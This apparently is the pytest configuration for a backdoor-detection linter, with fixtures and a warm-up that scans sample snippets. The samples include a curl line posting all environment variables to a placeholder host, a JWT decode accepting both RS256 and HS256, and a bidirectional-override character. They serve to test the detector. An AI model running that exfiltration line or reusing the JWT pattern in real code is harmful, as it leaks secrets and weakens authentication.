import atexit
import os
import shutil
import sys
import tempfile
from pathlib import Path

import pytest
from hypothesis import settings

# Property tests are deterministic: the same examples every run (derandomize), no replay of
# examples saved by earlier runs (database=None), no per-example wall-clock deadline. A test that
# wants random exploration (the long fuzzing run) says so in its own settings.
settings.register_profile("deterministic", derandomize=True, database=None, deadline=None)
settings.load_profile("deterministic")

sys.path.insert(0, str(Path(__file__).parent))
from cli_runner import run_cli, run_cli_process  # noqa: E402,F401 - helpers for the tests

ROOT = Path(__file__).resolve().parent.parent
SHARED_EVAL = ROOT.parent / "shared" / "eval"

# The CLI's result cache (issue 8) lives under $XDG_CACHE_HOME: keep test runs out of the
# developer's ~/.cache (subprocesses inherit this).
# The benchmark trees (benchmarks/trees.py) stay where benchmarks/run.py put them.
BENCHMARK_CACHE = Path(os.environ.get("XDG_CACHE_HOME") or Path.home() / ".cache") / "backdoor-lint-bench"
os.environ["XDG_CACHE_HOME"] = tempfile.mkdtemp(prefix="backdoor-lint-test-cache-")
atexit.register(shutil.rmtree, os.environ["XDG_CACHE_HOME"], True)


@pytest.fixture
def cli():
    return run_cli


@pytest.fixture
def git_available():
    if shutil.which("git") is None:
        pytest.skip("git not installed")


@pytest.fixture
def benchmark_cache() -> Path:
    """Where benchmarks/run.py keeps the pinned real trees (outside the tests' temporary cache)."""
    return BENCHMARK_CACHE


@pytest.fixture(scope="session", autouse=True)
def _analysis_loaded_before_workers_fork():
    """The engine forks its worker processes from the test process. Run every kind of analysis once
    here, so the forked workers inherit libcst, tree-sitter and the rules instead of importing them
    again for each scan (measured on a loaded 2-core VM: a one-file `scan --staged` 4.3 s -> 0.3 s)."""
    from backdoor_lint.config import Config
    from backdoor_lint.engine import scan_bytes

    config = Config(semgrep=False)
    scan_bytes("warm_up.py", b'import jwt, os, subprocess\nos.system("curl -d \\"$(env)\\" https://x.example")\n'
                             b'jwt.decode(t, k, algorithms=["RS256", "HS256"])\n', config)
    scan_bytes("warm_up.sh", b'curl -d "$(env)" https://x.example\n', config)
    scan_bytes("warm_up.js", b"const a = 'x\\u202e';\n", config)
